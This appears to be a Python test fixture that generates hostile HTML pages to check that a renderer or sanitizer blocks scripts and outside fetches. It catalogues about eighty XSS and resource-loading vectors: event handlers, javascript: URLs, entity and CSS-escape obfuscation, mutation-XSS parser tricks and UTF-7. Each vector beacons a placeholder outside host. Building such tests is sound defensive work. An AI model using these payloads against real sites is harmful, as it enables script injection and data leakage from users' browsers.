"""Pages that try to run scripts and to fetch from elsewhere, in every way that is known."""

from string import Template

RAN = "document.documentElement.setAttribute('data-ran',1);new Image().src='$outside/ran'"

VECTORS = {
    "script": "<script>$ran</script>",
    "script in capitals with a slash": "<SCRIPT/x>$ran</SCRIPT>",
    "script from elsewhere": '<script src="$outside/script.js"></script>',
    "module": '<script type="module">$ran</script>',
    "unclosed script": "<script>$ran//",
    "script with a NUL": "<scr\0ipt>$ran</scr\0ipt>",
    "script in svg": "<svg><script>$ran</script></svg>",
    "script linked in svg": '<svg><script href="$outside/svg.js"/></svg>',
    "svg onload": '<svg/onload="$ran">',
    "img onerror": '<img src=x onerror="$ran">',
    "img onerror without spaces": '<img/src="x"/onerror="$ran">',
    "handler behind a line end": '<img src=x\nonerror\n=\n"$ran">',
    "body onload": '<body onload="$ran">',
    "details ontoggle": '<details open ontoggle="$ran">x</details>',
    "autofocus": '<input autofocus onfocus="$ran">',
    "video source": '<video><source onerror="$ran"></video>',
    "video from elsewhere": '<video autoplay src="$outside/a.mp4" poster="$outside/poster.png"></video>',
    "audio": '<audio autoplay src="$outside/a.mp3"></audio>',
    "track": '<video><track default src="$outside/a.vtt"></video>',
    "marquee": '<marquee onstart="$ran">x</marquee>',
    "iframe javascript": '<iframe src="javascript:$ran"></iframe>',
    "iframe with entities": '<iframe src="&#106;ava&#x09;script:$ran"></iframe>',
    "iframe srcdoc": "<iframe srcdoc=\"<script>parent.$ran</script><img src='$outside/srcdoc.png'>\"></iframe>",
    "iframe data": '<iframe src="data:text/html,<script>$ran</script>"></iframe>',
    "iframe elsewhere": '<iframe src="$outside/frame.html"></iframe>',
    "object": '<object data="$outside/object.swf"></object>',
    "object data": '<object data="data:text/html,<script>$ran</script>"></object>',
    "embed": '<embed src="$outside/embed.swf">',
    "applet": '<applet code="X" codebase="$outside/"></applet>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=$outside/refreshed">',
    "meta refresh javascript": '<meta http-equiv="refresh" content="0;url=javascript:$ran">',
    "meta refresh quoted": "<meta http-equiv=Refresh content=\"0; URL='$outside/refreshed2'\">",
    "base": '<base href="$outside/"><img src="based.png">',
    "base protocol": '<base href="//$host/"><link rel=stylesheet href="based.css">',
    "link stylesheet": '<link rel="stylesheet" href="$outside/a.css">',
    "link preload": '<link rel="preload" as="image" href="$outside/preload.png">',
    "link prefetch": '<link rel="prefetch" href="$outside/prefetch">',
    "link preconnect": '<link rel="preconnect" href="$outside"><link rel="dns-prefetch" href="$outside">',
    "link modulepreload": '<link rel="modulepreload" href="$outside/m.js">',
    "link manifest": '<link rel="manifest" href="$outside/manifest.json">',
    "link icon": '<link rel="icon" href="$outside/favicon.ico">',
    "img": '<img src="$outside/a.png">',
    "img without a scheme": '<img src="//$host/b.png">',
    "img with backslashes": r'<img src="\\\\$host\\c.png"><img src="http:\\\\$host\\d.png">',
    "img with a tab": '<img src="ht\ttp://$host/e.png">',
    "img srcset": '<img srcset="$outside/1.png 1x, $outside/2.png 2x">',
    "picture": '<picture><source srcset="$outside/3.png"><img src="$outside/4.png"></picture>',
    "input image": '<input type="image" src="$outside/5.png">',
    "background": '<table background="$outside/6.png"><tr><td background="$outside/7.png">x</td></tr></table>',
    "style attribute": '<p style="background:url($outside/8.png)">x</p>',
    "style attribute with entities": '<p style="background:u&#114;l(&quot;$outside/9.png&quot;)">x</p>',
    "style attribute with escapes": r'<p style="background:\75 rl($outside/10.png)">x</p>',
    "style": "<style>body{background:url($outside/11.png)}</style>",
    "style import": "<style>@import '$outside/b.css';@import url($outside/c.css);</style>",
    "style escapes": r"<style>@\69mport '$outside/d.css'; p{background:\000075\72l($outside/12.png)}</style>",
    "style font": "<style>@font-face{font-family:f;src:url($outside/f.woff)} p{font-family:f}</style><p>x</p>",
    "style image-set": "<style>p{background:image-set('$outside/13.png' 1x)}</style><p>x</p>",
    "style comment": "<style>p{background:u/**/rl(x);}/*</style><img src=$outside/14.png>*/</style>",
    "style expression": '<p style="width:expression($ran);behavior:url($outside/a.htc)">x</p>',
    "style binding": '<p style="-moz-binding:url($outside/a.xml#x)">x</p>',
    "style in svg": '<svg><style><a title="</style><img src=x onerror=$ran>"></svg>',
    "title in svg": '<svg><title><a id="</title><img src=$outside/15.png onerror=$ran>"></svg>',
    "math and style": '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=$ran>">',
    "cdata": '<svg><![CDATA[<a title="]]><img src=$outside/16.png onerror=$ran>">]]></svg>',
    "comment that ends oddly": "<!--><img src=$outside/17.png onerror=$ran>--><!--x--!><img src=$outside/18.png>",
    "conditional comment": "<!--[if true]><img src=$outside/19.png><![endif]--><![if true]><script>$ran</script>",
    "textarea": "<textarea></textarea><img src=$outside/20.png onerror=$ran></textarea>",
    "noscript": '<noscript><p title="</noscript><img src=$outside/21.png onerror=$ran>"></noscript>',
    "xmp": '<xmp><p title="</xmp><img src=$outside/22.png onerror=$ran>"></xmp>',
    "template": "<template><script>$ran</script></template>",
    "unclosed quote": '<p title="><img src=$outside/23.png onerror=$ran>',
    "quote in a name": '<p "title="><script>$ran</script>',
    "svg use": '<svg><use href="$outside/a.svg#x"/><image xlink:href="$outside/24.png"/></svg>',
    "svg animated link": '<svg><a><animate attributeName="href" values="javascript:$ran"/><text>x</text></a></svg>',
    "svg filter": '<svg><rect fill="url($outside/a.svg#p)" style="filter:url(\'$outside/b.svg#f\')" /></svg>',
    "frameset": '<frameset onload="$ran"><frame src="$outside/f.html"></frameset>',
    "body background": '<body background="$outside/25.png">',
    "form": '<form action="$outside/form"><input autofocus name=x></form>',
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="report-uri $outside/report; img-src \'none\'">',
    "ping": '<a href="x" ping="$outside/ping">x</a>',
    "import of html": '<link rel="import" href="$outside/import.html">',
    "data script in link": '<link rel="stylesheet" href="data:text/css,@import%20url($outside/e.css)">',
    "utf-7": "+ADw-script+AD4-$ran+ADw-/script+AD4-",
}


def vector(name: str, outside: str) -> bytes:
    """Give one hostile piece of a page.

    Args:
        outside: the address that nothing may be fetched from.
    """
    ran = Template(RAN).substitute(outside=outside)
    host = outside.partition("://")[2]
    return Template(VECTORS[name]).substitute(outside=outside, host=host, ran=ran).encode()


def hostile_page(names: list[str], outside: str) -> bytes:
    """Give a page that holds several of them."""
    pieces = b"\n".join(vector(name, outside) for name in names)
    return b"<!DOCTYPE html><html><head><title>x</title></head><body><h1>Trang</h1>\n" + pieces
